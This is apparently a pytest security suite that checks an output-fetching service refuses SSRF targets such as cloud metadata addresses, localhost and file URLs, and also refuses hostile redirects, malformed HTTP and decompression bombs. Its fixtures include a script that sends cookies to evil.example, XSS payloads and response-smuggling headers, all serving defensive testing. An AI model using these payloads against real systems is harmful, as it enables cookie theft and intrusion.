"""Outputs that hostile models, or whoever plays Replicate, could name: none leads inside, and none does harm.

What is fetched is never decoded and never unpacked: a bomb is stored as the bytes that came, or refused for their
number.
"""

import base64
import gzip
import io
import itertools
import json
import struct
import tracemalloc
import zipfile
import zlib
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any

import pytest

from shared import services
from shared.errors import Code, OutputRejected
from shared.fetch import open_output, parse_rules
from shared.file_store import MANIFEST, prefix_of
from shared.identifiers import new_job_id
from shared.job import Hold, Job, Makes, PredictionId, Status
from tests.security.hostile import BY_ADDRESS, BY_FORM, ELSEWHERE
from tests.security.outside import Network, Script, Stranger, meeting_a_stranger
from tests.support.replicate import FakeReplicate, prediction
from tests.support.world import START, World, fresh_wiring, image, job

pytestmark = pytest.mark.sockets

HOST = "replicate.delivery"
MEGABYTE = 1024 * 1024
RULES = parse_rules(HOST, most_bytes=MEGABYTE, most_seconds=60)
numbers = itertools.count(1)


def running(world: World, **changes: Any) -> Job:
    """Give a job whose prediction is about to end."""
    one_id = new_job_id(START)
    known = PredictionId(f"p{next(numbers)}")
    fields = {"id": one_id, "status": Status.PROCESSING, "prediction_id": known, "hold": Hold("20261101", 3_000)}
    return world.put(job(**{**fields, **changes}))


def archive(world: World, one: Job, output: Any) -> bool:
    """Let `archive` store an output of the job's prediction; says whether it is done with the message."""
    document = prediction(str(one.prediction_id), "succeeded", output=output, completed_at="2026-11-01T12:00:09.000Z")
    return world.deliver(json.dumps({"job_id": one.id, "prediction_id": one.prediction_id, "prediction": document}))


def stored(world: World, one: Job) -> dict[str, bytes]:
    """Give all objects of a job but its manifest."""
    page = world.s3.list_objects_v2(Bucket=world.bucket, Prefix=prefix_of(one))
    names = [found["Key"].removeprefix(prefix_of(one)) for found in page.get("Contents", [])]
    return {name: world.object(prefix_of(one) + name) for name in names if name != MANIFEST}


def check_failed(world: World, one: Job, *codes: Code) -> None:
    """Require that the job has ended without a file, for one of these reasons, and says so in its manifest."""
    ended = world.read(one.id)
    assert ended.status is Status.FAILED
    assert ended.problem is not None
    assert ended.problem.code in codes
    assert stored(world, one) == {}
    assert world.manifest(one)["status"] == "failed"


# URLs


URLS = {name: url.replace("{host}", HOST) for name, url in {**BY_FORM, **ELSEWHERE}.items()}


@pytest.mark.parametrize("name", URLS)
def test_an_output_with_a_hostile_url_is_refused_before_anything_is_asked(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    network = Network(monkeypatch)
    with pytest.raises(OutputRejected), open_output(URLS[name], RULES):
        pass
    assert (network.asked, network.connected) == ([], [])


@pytest.mark.parametrize("makes", Makes)
def test_a_job_whose_outputs_are_all_hostile_stores_none_of_them(
    world: World, makes: Makes, monkeypatch: pytest.MonkeyPatch
) -> None:
    network = Network(monkeypatch)
    one = running(world, makes=makes)
    assert archive(world, one, list(URLS.values()))
    assert all(name.endswith(".json") for name in stored(world, one)), "but the list itself, where text is a result"
    assert (network.asked, network.connected) == ([], [])
    if makes is not Makes.ANYTHING:
        check_failed(world, one, Code.OUTPUT_REJECTED)


@pytest.mark.parametrize("name", BY_ADDRESS)
def test_an_allowed_host_is_not_called_at_an_address_that_leads_inside(
    world: World, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    network = Network(monkeypatch)
    network.resolves_to(BY_ADDRESS[name])
    one = running(world)
    assert archive(world, one, [f"https://{HOST}/x"])
    check_failed(world, one, Code.OUTPUT_REJECTED)
    assert (network.asked, network.connected) == ([HOST], [])


def test_a_name_that_changes_its_address_after_the_check_changes_nothing(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    network = Network(monkeypatch)
    network.resolves_to(("8.8.8.8", "8.8.4.4"), ("127.0.0.1",))
    assert archive(world, running(world), [f"https://{HOST}/x"]), "it is tried again later"
    assert (network.asked, network.connected) == ([HOST], ["8.8.8.8"])


def test_the_bad_url_among_good_ones_fails_the_job_and_loses_none_of_the_others(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    network = Network(monkeypatch)
    one = running(world, makes=Makes.IMAGES)
    good = f"data:image/webp;base64,{base64.b64encode(image()).decode()}"
    assert archive(world, one, [good, "http://169.254.169.254/latest/meta-data/"])
    assert world.read(one.id).status is Status.FAILED
    assert stored(world, one) == {"0.webp": image()}
    assert network.asked == []


# Answers


def answer(*headers: str, body: bytes = b"", status: str = "200 OK") -> bytes:
    """Give an answer as it goes over the wire; without a length, its end is where the connection ends."""
    return "\r\n".join([f"HTTP/1.1 {status}", *headers, "", ""]).encode("latin-1") + body


def sized(body: bytes, *headers: str) -> bytes:
    return answer(f"Content-Length: {len(body)}", *headers, body=body)


def chunked(*chunks: bytes) -> bytes:
    parts = b"".join(b"%x\r\n%s\r\n" % (len(chunk), chunk) for chunk in chunks)
    return answer("Transfer-Encoding: chunked", body=parts + b"0\r\n\r\n")


def png(width: int, height: int, rows: bytes) -> bytes:
    """Give a PNG that claims this size, whatever is in it."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def zipped(content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive_:
        archive_.writestr("x", content)
    return buffer.getvalue()


ZEROS = bytes(20 * MEGABYTE)
SCRIPT = b"<script>fetch('https://evil.example/?'+document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)"/>'
BOMB = gzip.compress(ZEROS)
TWICE = gzip.compress(BOMB)
PIXELS = png(100_000, 100_000, ZEROS)
ARCHIVE = zipped(ZEROS)


@dataclass(frozen=True)
class Kept:
    """The body is stored to the byte, as what it is: under this name and content type."""

    reply: bytes
    body: bytes
    name: str
    content_type: str
    width: int | None = None


KEPT: Mapping[str, Kept] = {
    "a page that claims to be an image": Kept(
        sized(b"<html>" + SCRIPT, "Content-Type: image/png"), b"<html>" + SCRIPT, "0.bin", "application/octet-stream"
    ),
    "a script without a type": Kept(sized(SCRIPT), SCRIPT, "0.bin", "application/octet-stream"),
    "a drawing with a script": Kept(
        sized(SVG, "Content-Type: image/svg+xml"), SVG, "0.bin", "application/octet-stream"
    ),
    "a document that claims to be an image": Kept(
        sized(b"%PDF-1.7 /JavaScript", "Content-Type: image/png"), b"%PDF-1.7 /JavaScript", "0.pdf", "application/pdf"
    ),
    "a program that claims to be an image": Kept(
        sized(b"MZ" + bytes(64), "Content-Type: image/png"), b"MZ" + bytes(64), "0.exe", "application/x-msdownload"
    ),
    "an image that claims to be a page": Kept(
        sized(image("PNG"), "Content-Type: text/html"), image("PNG"), "0.png", "image/png", 48
    ),
    "an image with a name of its own": Kept(
        sized(image("PNG"), 'Content-Disposition: attachment; filename="../../../manifest.json"'),
        image("PNG"), "0.png", "image/png", 48,
    ),
    "20 MB packed by gzip": Kept(
        sized(BOMB, "Content-Encoding: gzip", "Content-Type: image/png"), BOMB, "0.gz", "application/gzip"
    ),
    "20 MB packed twice": Kept(
        sized(TWICE, "Content-Encoding: gzip, gzip"), TWICE, "0.gz", "application/gzip"
    ),
    "20 MB packed by deflate": Kept(
        sized(zlib.compress(ZEROS), "Content-Encoding: deflate"),
        zlib.compress(ZEROS), "0.bin", "application/octet-stream",
    ),
    "something packed by what nobody knows": Kept(
        sized(b"x" * 40, "Content-Encoding: br, zstd, x-evil"), b"x" * 40, "0.bin", "application/octet-stream"
    ),
    "20 MB in an archive": Kept(sized(ARCHIVE), ARCHIVE, "0.zip", "application/zip"),
    "an image of ten billion pixels": Kept(sized(PIXELS), PIXELS, "0.png", "image/png", 100_000),
    "an image that claims the largest size there is": Kept(
        sized(png(2**32 - 1, 2**32 - 1, b"")), png(2**32 - 1, 2**32 - 1, b""), "0.png", "image/png", 2**32 - 1
    ),
    "an image without a size": Kept(sized(png(0, 0, b"")), png(0, 0, b""), "0.png", "image/png"),
    "an image that ends after its signature": Kept(
        sized(b"\x89PNG\r\n\x1a\n"), b"\x89PNG\r\n\x1a\n", "0.png", "image/png"
    ),
    "an image whose segments have no length": Kept(
        sized(b"\xff\xd8\xff" + bytes(100_000)), b"\xff\xd8\xff" + bytes(100_000), "0.jpg", "image/jpeg"
    ),
    "an image that is a page too": Kept(
        sized(b"GIF89a" + SCRIPT), b"GIF89a" + SCRIPT, "0.gif", "image/gif", struct.unpack("<h", b"<s")[0]
    ),
    "a body of exactly what is allowed": Kept(
        answer(body=b"x" * MEGABYTE), b"x" * MEGABYTE, "0.bin", "application/octet-stream"
    ),
    "headers that mean something to a browser": Kept(
        sized(
            image("PNG"), "Set-Cookie: session=evil", "Refresh: 0; url=https://evil.example/",
            "Content-Security-Policy: script-src *", "Location: https://evil.example/", 'Alt-Svc: h3=":1"',
        ),
        image("PNG"), "0.png", "image/png", 48,
    ),
    "more bytes than it said": Kept(
        answer("Content-Length: 6", body=b"GIF89aHTTP/1.1 200 OK\r\n\r\nsmuggled"), b"GIF89a", "0.gif", "image/gif"
    ),
    "a hundred answers that say to go on": Kept(
        b"HTTP/1.1 100 Continue\r\n\r\n" * 100 + sized(image("PNG")), image("PNG"), "0.png", "image/png", 48
    ),
    "a length of 5,000 digits": Kept(
        answer(f"Content-Length: {'9' * 5_000}", body=image("PNG")), image("PNG"), "0.png", "image/png", 48
    ),
    "a length that is no number": Kept(
        answer("Content-Length: many", body=image("PNG")), image("PNG"), "0.png", "image/png", 48
    ),
    "a negative length": Kept(answer("Content-Length: -1", body=image("PNG")), image("PNG"), "0.png", "image/png", 48),
}  # fmt: skip

REJECTED: Mapping[str, bytes] = {
    "a length of a gigabyte": answer("Content-Length: 1073741824", body=b"GIF89a"),
    "one byte more than is allowed": answer(body=b"x" * (MEGABYTE + 1)),
    "chunks of more than is allowed": chunked(*[b"x" * 65_536] * 17),
    "nothing": sized(b""),
    "nothing in chunks": chunked(),
    "no content": answer(status="204 No Content"),
    "a part": answer("Content-Length: 3", "Content-Range: bytes 0-2/9", body=b"GIF", status="206 Partial Content"),
    "not modified": answer(status="304 Not Modified"),
    "a challenge": answer("WWW-Authenticate: Basic", "Content-Length: 0", status="401 Unauthorized"),
    "a demand to authenticate with a proxy": answer(
        "Proxy-Authenticate: Basic", "Content-Length: 0", status="407 Proxy Authentication Required"
    ),
    "a teapot": answer("Content-Length: 0", status="418 I'm a teapot"),
    "a status of its own": answer("Content-Length: 0", status="299 Evil"),
}

# It cannot be had now: the same order comes again later, until Replicate has deleted the source.
UNAVAILABLE: Mapping[str, bytes] = {
    "a connection that ends at once": b"",
    "no HTTP": b"220 mail.example ESMTP\r\n",
    "an answer without a status": b"GIF89a",
    "an endless status": b"HTTP/1.1 200 " + b"x" * 100_000,
    "an endless header": b"HTTP/1.1 200 OK\r\nx: " + b"x" * 100_000,
    "a thousand headers": answer(*[f"x-{n}: {n}" for n in range(1_000)]),
    "a chunk whose size is no number": answer("Transfer-Encoding: chunked", body=b"many\r\nGIF89a"),
    "a chunk whose size has no end": answer("Transfer-Encoding: chunked", body=b"0" * 100_000),
    "a chunk that ends early": answer("Transfer-Encoding: chunked", body=b"ffffff\r\nGIF89a"),
    "fewer bytes than it said": answer("Content-Length: 100", body=b"GIF89a"),
    "two lengths": answer("Content-Length: 3, 6", body=b"GIF89a"),
    "a failure": answer("Content-Length: 0", status="500 Internal Server Error"),
    "a request to slow down": answer("Content-Length: 0", "Retry-After: 99999999", status="429 Too Many Requests"),
}


@pytest.fixture(scope="module")
def stranger(standing: tuple[World, FakeReplicate]) -> Iterator[Stranger]:
    """A server that outputs may be fetched from, although it is on loopback."""
    with meeting_a_stranger() as one:
        standing[0].parameters |= {"OutputHosts": f"{HOST},{one.origin}", "MaxOutputMegabytes": "1"}
        fresh_wiring()
        yield one


def said(stranger: Stranger, reply: bytes | Script) -> str:
    """Let the stranger say this, once or more often; gives the URL."""
    path = f"/{next(numbers)}"
    stranger.scripts[path] = reply if callable(reply) else lambda: in_parts(reply)
    return stranger.origin + path


def in_parts(reply: bytes) -> Iterable[bytes]:
    return (reply[start : start + 65_536] for start in range(0, len(reply), 65_536))


@pytest.mark.parametrize("name", KEPT)
def test_a_hostile_body_is_stored_as_the_bytes_that_came_and_as_what_they_are(
    world: World, stranger: Stranger, name: str
) -> None:
    case = KEPT[name]
    one = running(world)
    assert archive(world, one, [said(stranger, case.reply)])
    (file,) = world.read(one.id).files
    assert (world.read(one.id).status, stored(world, one)) == (Status.SUCCEEDED, {case.name: case.body})
    assert (file.content_type, file.bytes, file.width) == (case.content_type, len(case.body), case.width)
    headers = world.s3.head_object(Bucket=world.bucket, Key=file.key)
    assert headers["ContentType"] == case.content_type
    assert "ContentEncoding" not in headers, "whoever downloads it unpacks nothing either"
    assert "ContentDisposition" not in headers


@pytest.mark.parametrize("name", REJECTED)
def test_a_hostile_answer_is_refused_for_good(world: World, stranger: Stranger, name: str) -> None:
    one = running(world)
    assert archive(world, one, [said(stranger, REJECTED[name])])
    check_failed(world, one, Code.OUTPUT_REJECTED)


def check_postponed(world: World, logged: list[str], url: str) -> None:
    """Require that a job whose prediction has just ended with this output waits for it, and is to be tried again."""
    one = running(world, created_at=services.now(), claimed_at=services.now())
    document = {**prediction(str(one.prediction_id), "succeeded", output=[url]), "completed_at": None}
    order = {"job_id": one.id, "prediction_id": one.prediction_id, "prediction": document}
    assert world.deliver(json.dumps(order))
    assert world.read(one.id).status is Status.STORING
    assert stored(world, one) == {}
    (line,) = [json.loads(line) for line in logged if "archive_postponed" in line]
    assert (line["job_id"], line["reason"]) == (one.id, "OutputUnavailable")


@pytest.mark.parametrize("name", UNAVAILABLE)
def test_a_broken_answer_is_asked_for_again_and_stores_nothing(
    world: World, stranger: Stranger, logged: list[str], name: str
) -> None:
    check_postponed(world, logged, said(stranger, UNAVAILABLE[name]))


DRIPS: Mapping[str, tuple[bytes, bytes]] = {
    "a status that trickles": (b"", b"x"),
    "a header that trickles": (b"HTTP/1.1 200 OK\r\nx: ", b"x"),
    "headers that never end": (b"HTTP/1.1 200 OK\r\n", b"x: y\r\n"),
    "answers that say to go on, for ever": (b"", b"HTTP/1.1 100 Continue\r\n\r\n"),
    "a body that trickles": (answer("Content-Length: 100000"), b"x"),
    "a body that trickles in chunks": (answer("Transfer-Encoding: chunked"), b"1\r\nx\r\n"),
    "the size of a chunk that trickles": (answer("Transfer-Encoding: chunked"), b"0"),
    "trailers that never end": (answer("Transfer-Encoding: chunked", body=b"1\r\nx\r\n0\r\n"), b"x: y\r\n"),
    "silence": (b"", b""),
}


@pytest.mark.parametrize("name", DRIPS)
def test_an_answer_that_never_ends_is_given_up(
    world: World, stranger: Stranger, logged: list[str], name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without the limit these would go on until the test is stopped from outside."""
    monkeypatch.setattr(services, "OUTPUT_SECONDS", 0.2)
    fresh_wiring()
    try:
        check_postponed(world, logged, said(stranger, stranger.drip(*DRIPS[name])))
    finally:
        fresh_wiring()


def test_memory_stays_flat_whatever_is_packed_into_a_body(stranger: Stranger) -> None:
    """The bombs of the table would need 20 MB each if anything unpacked or decoded them."""
    rules = parse_rules(stranger.origin, most_bytes=MEGABYTE, most_seconds=60)
    for bomb in (BOMB, TWICE, PIXELS, ARCHIVE):
        url = said(stranger, sized(bomb, "Content-Encoding: gzip"))
        tracemalloc.start()
        with open_output(url, rules) as download:
            read = b"".join(iter(lambda: download.read(65_536), b""))
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert read == bomb
        assert peak < 8 * MEGABYTE


# Redirects

AWAY: Mapping[str, str] = {
    **{name: url.replace("{host}", HOST) for name, url in ELSEWHERE.items()},
    "plain HTTP": f"http://{HOST}/x",
    "the metadata of an instance": "http://169.254.169.254/latest/meta-data/",
    "the metadata of an instance as one number": "http://2852039166/latest/meta-data/",
    "the metadata of an instance in IPv6": "http://[fd00:ec2::254]/latest/meta-data/",
    "another port of the same machine": "http://127.0.0.1:22/",
    "the same machine by another name": "http://localhost/",
    "the same machine in IPv6": "http://[::1]/",
    "a user": f"https://user@{HOST}/x",
    "a file": "file:///etc/passwd",
    "a data URI": "data:image/png;base64,AAAA",
    "JavaScript": "javascript:alert(1)",
    "no scheme": "//evil.example/x",
    "backslashes": "\\\\evil.example\\x",
    "a bracket that does not close": "https://[::1",
    "a letter that becomes a slash": f"https://{HOST}\u00bd.evil.example/",
    "a space": f"https://{HOST}/a b",
    "two places": f"https://{HOST}/a, https://{HOST}/b",
    "9,000 characters": "/" + "x" * 9_000,
}


@pytest.mark.parametrize("name", AWAY)
def test_a_redirect_is_checked_like_the_first_url(world: World, stranger: Stranger, name: str) -> None:
    url = said(stranger, answer(f"Location: {AWAY[name]}", "Content-Length: 0", status="302 Found"))
    before = len(stranger.asked)
    one = running(world)
    assert archive(world, one, [url])
    check_failed(world, one, Code.OUTPUT_REJECTED)
    assert len(stranger.asked) == before + 1


@pytest.mark.parametrize("length", [1, 2, 3])
def test_redirects_in_a_circle_come_to_an_end(world: World, stranger: Stranger, length: int) -> None:
    circle = [said(stranger, b"") for _ in range(length)]
    for place, following in zip(circle, [*circle[1:], circle[0]], strict=True):
        reply = answer(f"Location: {following}", "Content-Length: 0", status="307 Temporary Redirect")
        stranger.scripts[place.removeprefix(stranger.origin)] = lambda reply=reply: [reply]  # type: ignore[misc]
    before = len(stranger.asked)
    one = running(world)
    assert archive(world, one, [circle[0]])
    check_failed(world, one, Code.OUTPUT_REJECTED)
    assert len(stranger.asked) == before + 4


@pytest.mark.parametrize("header", ["", "Location:", "Location: ?"])
def test_a_redirect_to_nowhere_comes_to_an_end(world: World, stranger: Stranger, header: str) -> None:
    one = running(world)
    headers = [header] if header else []
    assert archive(world, one, [said(stranger, answer(*headers, "Content-Length: 0", status="302 Found"))])
    check_failed(world, one, Code.OUTPUT_REJECTED)


# Outputs that are no URLs

SHAPES: Mapping[str, Any] = {
    "more files than are stored": [f"https://{HOST}/{n}" for n in range(251)],
    "a data URI of more than is allowed": f"data:image/png,{'x' * (MEGABYTE + 1)}",
    "a data URI that is not base64": "data:image/png;base64,!!!",
    "a data URI without data": ["data:image/png;base64,"],
    "an object where images must be": {"evil": "https://evil.example/x"},
    "a number where images must be": 5,
    "lists in lists": [[["https://evil.example/x"]]],
}


@pytest.mark.parametrize("name", SHAPES)
def test_an_output_of_an_odd_shape_fails_the_job_and_asks_nobody(
    world: World, stranger: Stranger, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    network = Network(monkeypatch)
    one = running(world)
    before = len(stranger.asked)
    assert archive(world, one, SHAPES[name])
    assert world.read(one.id).status is Status.FAILED
    assert stored(world, one) == {}
    assert (network.asked, network.connected, len(stranger.asked)) == ([], [], before)
